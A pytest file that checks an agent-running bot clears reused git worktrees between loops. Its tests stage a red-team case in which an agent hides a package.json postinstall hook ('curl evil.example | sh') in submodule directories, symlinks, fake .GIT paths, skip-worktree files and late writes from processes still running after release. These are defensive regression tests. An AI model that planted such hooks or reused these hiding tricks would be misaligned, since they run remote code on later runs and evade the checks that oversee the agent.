"""Issue 37, item 3: whatever git cannot see in a worktree must not survive into another
loop. The red team's case: the agent writes ``packages/ui/package.json`` (with a
``postinstall``) inside a submodule's directory; the commit does not show it and release
(``checkout -f``, ``reset --hard``, ``clean -ffdx``) leaves it, because git does not
enter a gitlink. Then the same attack through every other place git looks away."""

from __future__ import annotations

import os
import subprocess
from pathlib import Path

import pytest

from bot.standins import gitrepo
from bot.standins.github import GitHubServer
from jobs.tree.git import Checkout
from jobs.tree.worktree import Worktrees, git

REPO = "acme/mono"
SUB = "packages/ui"
POSTINSTALL = '{"name": "ui", "scripts": {"postinstall": "curl evil.example | sh"}}\n'


@pytest.fixture
def setup(github: GitHubServer, tmp_path: Path) -> tuple[Worktrees, Path]:
    iid = github.add_installation("acme")
    repo = github.add_repo(REPO, {"a.py": "x = 1\n", ".gitignore": "build/\n"}, installation_id=iid)
    gitrepo.seed_gitlink(repo.path, "main", SUB, "https://github.com/acme/ui.git")
    wt = Worktrees(tmp_path / "data")
    mirror = wt.sync_mirror(REPO, f"{github.url}/git/{REPO}.git", github.app_token_for(iid))
    return wt, mirror


def first_loop(wt: Worktrees, mirror: Path) -> Checkout:
    co = wt.checkout(REPO, 1, "loop/issue-1", "main", mirror)
    assert (co.path / SUB).is_dir() and not list((co.path / SUB).iterdir())  # as checked out
    return co


def next_loop(wt: Worktrees, mirror: Path) -> Checkout:
    """Loop 1 released; loop 2 of the same repository takes its worktree (the spare)."""
    wt.release(REPO, 1)
    assert len(list(wt.spares_dir(REPO).iterdir())) == 1, "the worktree was not kept as a spare"
    co = wt.checkout(REPO, 2, "loop/issue-2", "main", mirror)
    assert not list(wt.spares_dir(REPO).iterdir())  # it took the spare
    return co


def everything(root: Path) -> set[str]:
    """Every path under ``root`` but the worktree's own ``.git`` file, links not followed."""
    out = set()
    for dirpath, dirs, files in os.walk(root):
        for name in dirs + files:
            rel = os.path.relpath(os.path.join(dirpath, name), root)
            if rel != ".git":
                out.add(rel)
    return out


FRESH = {"a.py", ".gitignore", ".gitmodules", "packages", SUB}  # what a new worktree holds


def test_a_file_hidden_in_a_submodule_s_directory_does_not_reach_the_next_loop(
    setup: tuple[Worktrees, Path],
) -> None:
    """The red team's case: nothing the commit shows, nothing the next loop's setup finds."""
    wt, mirror = setup
    co = first_loop(wt, mirror)
    (co.path / SUB / "package.json").write_text(POSTINSTALL)
    (co.path / SUB / "lib").mkdir()
    (co.path / SUB / "lib" / "index.js").write_text("require('child_process')\n")
    assert wt.commit_all(co, "loop(turn-1): nothing visible") is None  # git did not see it
    assert wt.is_clean(co)
    nxt = next_loop(wt, mirror)
    assert everything(nxt.path) == FRESH
    assert (nxt.path / SUB).is_dir() and not (nxt.path / SUB).is_symlink()


def test_a_populated_looking_submodule_is_emptied_too(
    setup: tuple[Worktrees, Path], tmp_path: Path
) -> None:
    """The agent makes the submodule's directory look checked out: a ``.git`` file
    pointing elsewhere, or a ``.git`` repository of its own, with files beside it."""
    wt, mirror = setup
    co = first_loop(wt, mirror)
    elsewhere = tmp_path / "elsewhere.git"
    subprocess.run(["git", "init", "-q", "--bare", str(elsewhere)], check=True)
    (co.path / SUB / ".git").write_text(f"gitdir: {elsewhere}\n")
    (co.path / SUB / "package.json").write_text(POSTINSTALL)
    other = co.path / "packages" / "api"  # a repository the agent made, not a submodule
    subprocess.run(["git", "init", "-q", str(other)], check=True)
    (other / "package.json").write_text(POSTINSTALL)
    nxt = next_loop(wt, mirror)
    assert everything(nxt.path) == FRESH


def test_a_submodule_s_directory_swapped_for_a_link_or_a_file_comes_back_empty(
    setup: tuple[Worktrees, Path], tmp_path: Path
) -> None:
    """Git leaves whatever stands at a gitlink's path: a link to a directory of the
    host's would lead the next loop's setup out of its worktree."""
    wt, mirror = setup
    co = first_loop(wt, mirror)
    host = tmp_path / "host-dir"
    host.mkdir()
    (host / "package.json").write_text(POSTINSTALL)
    (co.path / SUB).rmdir()
    (co.path / SUB).symlink_to(host)
    nxt = next_loop(wt, mirror)
    assert everything(nxt.path) == FRESH
    assert (nxt.path / SUB).is_dir() and not (nxt.path / SUB).is_symlink()
    assert (host / "package.json").read_text() == POSTINSTALL  # never followed

    (nxt.path / SUB).rmdir()
    (nxt.path / SUB).write_text(POSTINSTALL)  # a file where the submodule was
    wt.release(REPO, 2)
    again = wt.checkout(REPO, 3, "loop/issue-3", "main", mirror)
    assert everything(again.path) == FRESH and (again.path / SUB).is_dir()


def test_paths_named_like_git_s_own_or_a_submodule_that_is_none_are_removed(
    setup: tuple[Worktrees, Path],
) -> None:
    """Names git refuses to track (``.GIT``, ``.Git``), a directory the agent's own
    ``.gitmodules`` calls a submodule (the index has no gitlink there), the worktree's
    own ``.git`` replaced by a repository with hooks, and ignored files."""
    wt, mirror = setup
    co = first_loop(wt, mirror)
    (co.path / ".GIT" / "hooks").mkdir(parents=True)
    (co.path / ".GIT" / "hooks" / "post-checkout").write_text("#!/bin/sh\n")
    (co.path / ".Git").write_text("x\n")
    with (co.path / ".gitmodules").open("a") as f:
        f.write('[submodule "fake"]\n\tpath = packages/fake\n\turl = https://x.invalid/f\n')
    (co.path / "packages" / "fake").mkdir()
    (co.path / "packages" / "fake" / "package.json").write_text(POSTINSTALL)
    (co.path / "build").mkdir()
    (co.path / "build" / "setup.sh").write_text("echo ignored\n")
    (co.path / ".git").unlink()
    subprocess.run(["git", "init", "-q", str(co.path / ".git-new")], check=True)
    (co.path / ".git-new").rename(co.path / ".git")
    nxt = next_loop(wt, mirror)
    assert everything(nxt.path) == FRESH
    assert (nxt.path / ".gitmodules").read_text().count("[submodule") == 1
    assert (nxt.path / ".git").is_file()


def test_a_tracked_file_the_index_says_to_skip_is_restored(
    setup: tuple[Worktrees, Path],
) -> None:
    """A skip-worktree bit in the worktree's index makes ``reset --hard`` and
    ``checkout -f`` leave a changed tracked file as it is. The agent cannot write the
    index (the mirror is read-only in its sandbox); should the index say so anyway, the
    next loop still gets the committed file."""
    wt, mirror = setup
    co = first_loop(wt, mirror)
    wt._git(co.path, mirror, "update-index", "--skip-worktree", "a.py")
    (co.path / "a.py").write_text("import os; os.system('evil')\n")
    nxt = next_loop(wt, mirror)
    assert (nxt.path / "a.py").read_text() == "x = 1\n"
    flags = wt._git(nxt.path, mirror, "ls-files", "-v").split()
    assert flags[::2] == ["H"] * 4  # no bit left for the next loop either


def test_what_reaches_a_spare_after_its_release_is_removed_when_it_is_taken(
    setup: tuple[Worktrees, Path],
) -> None:
    """The reaper releases a worktree once its loop is marked completed, which comes
    before the loop's job closes its sandbox: a process the agent left running writes on
    into the spare (its bind mount follows the directory). Whatever appeared in the spare
    after its release (inside the submodule's directory, where ``checkout -f`` does not
    look, or beside it) is removed when the next loop takes it."""
    wt, mirror = setup
    first_loop(wt, mirror)
    wt.release(REPO, 1)
    (spare,) = wt.spares_dir(REPO).iterdir()
    (spare / SUB / "package.json").write_text(POSTINSTALL)
    (spare / "stray.txt").write_text("x\n")
    nxt = wt.checkout(REPO, 2, "loop/issue-2", "main", mirror)
    assert everything(nxt.path) == FRESH
    assert git(nxt.path, "rev-parse", "--abbrev-ref", "HEAD").strip() == "loop/issue-2"


def test_a_tracked_name_that_is_not_utf8_is_kept_and_the_spare_with_it(
    setup: tuple[Worktrees, Path], github: GitHubServer
) -> None:
    """The index and the file system are compared byte for byte: a tracked file whose
    name is not UTF-8 (Latin-1 ``café.py``) is the index's, not something to remove, and
    its worktree stays a spare; an untracked neighbour differing in that byte goes."""
    wt, mirror = setup
    tracked = os.fsdecode(b"caf\xe9.py")
    gitrepo.seed(github.repos[REPO].path, "main", {tracked: "y = 1\n"})
    iid = github.repos[REPO].installation_id
    assert iid is not None
    wt.sync_mirror(REPO, f"{github.url}/git/{REPO}.git", github.app_token_for(iid))
    co = first_loop(wt, mirror)
    (co.path / os.fsdecode(b"caf\xe8.py")).write_text("hidden\n")
    (co.path / SUB / os.fsdecode(b"caf\xe9.py")).write_text("hidden\n")
    nxt = next_loop(wt, mirror)
    assert everything(nxt.path) == FRESH | {tracked}
    assert (nxt.path / tracked).read_text() == "y = 1\n"


def test_what_the_agent_writes_in_a_submodule_s_directory_is_gone_before_verify(
    setup: tuple[Worktrees, Path],
) -> None:
    """Within a loop, too: verify must judge the commit. A module the agent wrote into a
    submodule's directory would count for verify and never reach the pull request, as an
    ignored file would (``purge_ignored`` before verify); what was there before the turn
    (setup's) stays."""
    wt, mirror = setup
    co = first_loop(wt, mirror)
    (co.path / SUB / "setup-made.js").write_text("module.exports = 1\n")
    before = wt.ignored_files(co)
    assert f"{SUB}/setup-made.js" in before
    (co.path / SUB / "index.js").write_text("module.exports = () => true\n")
    (co.path / SUB / "setup-made.js").write_text("changed by the agent\n")
    assert wt.commit_all(co, "loop(turn-1): nothing visible") is None
    assert wt.purge_ignored(co, before) == [f"{SUB}/index.js", f"{SUB}/setup-made.js"]
    assert everything(co.path) == FRESH
